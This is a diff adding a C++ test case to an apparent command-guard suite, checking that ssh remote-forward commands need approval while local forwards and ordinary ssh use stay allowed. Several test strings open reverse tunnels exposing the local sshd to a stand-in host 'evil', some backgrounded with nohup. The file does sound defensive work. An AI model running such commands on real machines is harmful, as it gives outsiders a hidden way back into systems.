@@ -560,6 +560,20 @@ TEST(GuardClasses, ContainersOnTheHostNetworkNeedApproval) {
   });
 }
 
+// ssh -R opens a port of this machine (usually its sshd) to the remote host: a way back in.
+TEST(GuardClasses, SshRemoteForwardsNeedApproval) {
+  RunTable({
+      {"ssh -R 9000:localhost:22 attacker@evil", kApprove},
+      {"ssh -fNR 2222:127.0.0.1:22 u@evil", kApprove},
+      {"nohup ssh -N -o RemoteForward=\"2222 localhost:22\" u@evil &", kApprove},
+      {"sudo ssh -i key -R9000:localhost:8080 u@h", kApprove},
+      {"ssh -L 8080:localhost:80 u@h", kAllow},
+      {"ssh -N -D 1080 u@h", kAllow},
+      {"ssh host ls -R", kAllow},
+      {"ssh -p 2222 host", kAllow},
+  });
+}
+
 // Everyday commands near the classes above.
 TEST(GuardClasses, NormalWorkStaysAllowed) {
   RunTable({
